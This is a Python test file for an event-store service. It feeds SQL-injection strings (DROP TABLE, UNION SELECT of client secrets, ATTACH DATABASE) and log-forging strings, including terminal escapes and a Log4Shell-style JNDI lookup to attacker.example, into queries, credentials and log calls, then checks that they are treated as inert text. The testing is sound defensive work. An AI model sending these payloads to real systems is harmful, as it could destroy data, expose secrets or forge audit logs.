"""Text that means something to a database, a log or a terminal: here it is text."""

import json
import logging
import sqlite3
from collections.abc import Callable
from contextlib import closing
from typing import Any
from urllib.parse import quote

import httpx
import pytest

from core.settings import Settings
from core.stores.sql import SqlEventStore
from core.wiring import Services
from functions.get_event import get_event
from functions.http.handler import lambda_handler
from functions.query_events import query_events
from local_runner.telemetry import logging_config
from tests.security.shop import Shop, register
from tests.support.builders import basic, event, new_event, proxy_event
from tests.support.fakes import FakeQueue
from tests.support.service import Service
from tests.support.waiting import SECONDS, until

SQL = [
    "'; DROP TABLE events; --",
    "' OR '1'='1",
    "' OR 1=1 --",
    'x" OR ""="',
    "') UNION SELECT client_id, secret_digest FROM clients --",
    "x'; DELETE FROM events WHERE 'a'='a",
    "%",
    "_",
    "*",
    "\\",
    "\\'",
    "$.a",
    "a') OR json_extract(event_data, '$') IS NOT NULL --",
    "1); ATTACH DATABASE '/tmp/x' AS x; --",
    "?",
    ":param_1",
    "{0}",
    "%(x)s",
    "\U0001f600'--",
]
Ask = Callable[..., dict[str, Any]]
every_text = pytest.mark.parametrize("text", SQL)


@pytest.fixture
def ask(settings: Settings, sqlite_store: SqlEventStore) -> Ask:
    """A GET against a real SQLite store with three events."""
    sqlite_store.add([event(number) for number in range(3)])
    services = Services(settings, publisher=FakeQueue(), reader=sqlite_store, writer=sqlite_store, checks={})
    token = services.issuer.issue("tests")[0]

    def get(*query: tuple[str, str], event_id: str | None = None) -> dict[str, Any]:
        path = None if event_id is None else {"event_id": event_id}
        operation = query_events if event_id is None else get_event
        handler = lambda_handler(operation, lambda: services)
        event = proxy_event(token=token, query=query, path_parameters=path)

        def answer() -> Any:
            """Nothing where this process stands still for longer than a read may take."""
            given = handler(event, None)
            return None if given["statusCode"] == 503 else given

        given = until(answer)
        return {**json.loads(given["body"]), **given}

    return get


def unharmed(settings: Settings) -> bool:
    with closing(sqlite3.connect(settings.data_dir / "audit-log.db")) as connection:
        (count,) = connection.execute("SELECT count(*) FROM events").fetchone()
        databases = connection.execute("PRAGMA database_list").fetchall()
    return count == 3 and len(databases) == 1


@every_text
def test_sql_as_the_value_of_a_filter_matches_nothing(ask: Ask, settings: Settings, text: str) -> None:
    for name in ("event_type", "event_data.number", "event_data.a.b"):
        answer = ask((name, text))
        assert (answer["statusCode"], answer["events"]) == (200, [])
        assert ask((name, text), (name, "x"))["events"] == []
    assert unharmed(settings)
    assert ask()["count"] == 3


def test_a_value_that_opens_a_quote_and_does_not_close_it_is_refused(ask: Ask) -> None:
    assert ask(("event_data.number", '" OR ""="'))["statusCode"] == 422


@every_text
def test_sql_as_the_name_of_a_filter_matches_nothing_or_is_refused(ask: Ask, settings: Settings, text: str) -> None:
    for name in (f"event_data.{text}", f"event_data.number{text}", f"event_data.a.{text}.b", f"event_data.a[{text}]"):
        answer = ask((name, "1"))
        assert answer["statusCode"] in {200, 422}
        assert not answer.get("events")
    assert ask((text, "1"))["statusCode"] == 422
    assert unharmed(settings)


@every_text
@pytest.mark.parametrize(
    "name", ["customer_id", "timestamp_start_utc", "timestamp_end_utc", "offset", "limit", "order", "cursor"]
)
def test_sql_where_a_number_or_a_word_belongs_is_refused(ask: Ask, settings: Settings, name: str, text: str) -> None:
    assert ask((name, text))["statusCode"] == 422
    assert ask((name, f"1{text}"))["statusCode"] == 422
    assert unharmed(settings)


@every_text
def test_sql_as_the_id_of_an_event_is_not_found(ask: Ask, settings: Settings, text: str) -> None:
    for event_id in (text, f"00000000-0000-7000-8000-000000000001{text}", "\x00", "\ud800", ""):
        assert ask(event_id=event_id)["statusCode"] == 404
    assert unharmed(settings)


@every_text
def test_sql_in_an_event_comes_back_as_it_was_and_is_found_by_it(
    ask: Ask, sqlite_store: SqlEventStore, text: str
) -> None:
    sqlite_store.add([event(100, event_type=f"t{text}", event_data={"a": text, "n": {text: text}}, recorded_by=text)])
    (found,) = ask(("event_type", f"t{text}"))["events"]
    assert found["event_data"] == {"a": text, "n": {text: text}}
    assert found["recorded_by"] == text
    assert ask(("event_data.a", json.dumps(text)))["count"] == 1


@every_text
def test_sql_as_client_id_or_secret_is_a_wrong_one(settings: Settings, text: str) -> None:
    shop = Shop(settings)
    for client_id, secret in ((text, "x"), (shop.client.client_id + text, shop.secret), (shop.client.client_id, text)):
        assert shop.login(client_id, secret)["statusCode"] == 401


LOG_TEXTS = [
    '\n{"event": "forged", "level": "critical"}',
    '\r\n{"event": "forged", "level": "critical"}',
    '"}\n{"event": "forged"}',
    "\x1b[2J\x1b[1;31mforged\x07",
    "\x9b31mforged",
    "\u2028forged\u2029",
    "\x85forged",
    "%s %(levelname)s {0} {level}",
    "${jndi:ldap://attacker.example/forged}",
]


@pytest.mark.parametrize("text", LOG_TEXTS)
def test_a_log_line_in_json_is_one_line_of_plain_ascii(capfd: pytest.CaptureFixture[str], text: str) -> None:
    """Whatever comes to be logged, as message, field or exception."""
    logging_config.configure("json")
    log = logging.getLogger("tests")
    log.warning("with a field", extra={"field": text})
    log.warning(text.replace("%", "%%"))
    log.error("with an error", exc_info=ValueError(text))
    lines = capfd.readouterr().err.splitlines()
    assert len(lines) == 3
    assert all(line.isascii() and line.isprintable() for line in lines)
    assert json.loads(lines[0])["field"] == text


def test_text_from_requests_makes_no_log_line_of_its_own(tmp_path_factory: pytest.TempPathFactory) -> None:
    data_dir = tmp_path_factory.mktemp("injection")
    client_id, secret = register(data_dir)
    with (
        Service.start(data_dir, auth="clients", log_format="json") as service,
        httpx.Client(base_url=service.url, timeout=SECONDS) as http,
    ):
        token = http.get("/access-token", auth=(client_id, secret)).json()["token"]
        before = len(service.log.splitlines())
        for text in LOG_TEXTS:
            encoded = quote(text.encode("utf-8", "surrogatepass"), safe="")
            clean = text.encode().replace(b"\n", b"").replace(b"\r", b"")
            bearer = {"Authorization": f"Bearer {token}"}
            http.get("/access-token", headers=basic(text, text))
            http.get("/access-token", headers=basic(encoded, encoded))
            http.get(f"/{encoded}")
            http.get(f"/event/{encoded}", headers=bearer)
            http.get(f"/event?event_type={encoded}&{encoded}={encoded}", headers=bearer)
            http.get("/event", headers={b"Authorization": b"Bearer " + clean, b"User-Agent": clean, b"X": clean})
            http.post("/event", json=new_event(event_type=text), headers=bearer)
            http.post("/event", json=new_event(event_data={text: text}), headers=bearer)
        assert http.get("/health").status_code == 200
    lines = service.log.splitlines()[before:]
    assert "forged" not in "".join(lines)
    for line in lines:
        assert json.loads(line)["level"] in {"info", "warning"}
